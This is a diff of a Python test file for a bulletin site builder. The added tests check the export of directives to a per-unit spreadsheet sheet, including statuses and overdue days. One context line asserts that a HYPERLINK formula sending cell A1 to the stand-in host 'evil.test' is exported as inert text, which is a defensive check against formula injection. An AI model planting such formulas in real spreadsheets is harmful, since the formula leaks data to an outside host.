@@ -197,3 +197,49 @@ def test_libreoffice_opens_the_workbook_as_it_is(sites, tmp_path):
     assert 'office:value-type="date" office:date-value="2021-06-01"' in content
     assert "table:formula" not in content
     assert "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1,&quot;Details&quot;)" in content
+
+
+SHARED = """\
+---
+title: Meeting
+date: 2021-05-25
+type: minutes
+---
+/// directive | Clear the exits
+    id: S-1
+    units: [property, energy]
+    support: [safety-env]
+    deadline: 2021-06-10
+
+Both units clear their exits.
+///
+"""
+ENERGY_DONE = """\
+---
+title: Re-inspection
+date: 2021-06-05
+type: inspection
+---
+/// follow-up | Clear the exits
+    directive: S-1
+    units: [energy]
+    status: done
+
+Energy's exits are clear.
+///
+"""
+
+
+def test_the_by_unit_sheet_shows_each_unit_s_share(tmp_path):
+    root = write_tree(tmp_path / "bulletins", {"units.yml": UNITS_YML, "2021/2021-05-25-meeting.md": SHARED,
+                                               "2021/2021-06-05-re-inspection.md": ENERGY_DONE})
+    build = SiteBuild.load(root, dt.date(2021, 6, 20), urls=URLS)
+    assert not build.project.errors, build.project.errors
+    records = directives_json(build.catalog, URLS)["directives"]
+    sheet = openpyxl.load_workbook(io.BytesIO(directives_xlsx(records, build.catalog)))["Open, by unit"]
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, [c.value for c in row])) for row in sheet.iter_rows(min_row=2)]
+    # energy's share is done (closed: not listed), property's open and overdue; the supporting unit sees
+    # the directive's own state (in progress: one share done)
+    assert [(r["unit_id"], r["role_code"], r["status_code"], r["bucket_code"], r["days_overdue"]) for r in rows] == [
+        ("safety-env", "support", "in-progress", "overdue", 10), ("property", "responsible", "open", "overdue", 10)]
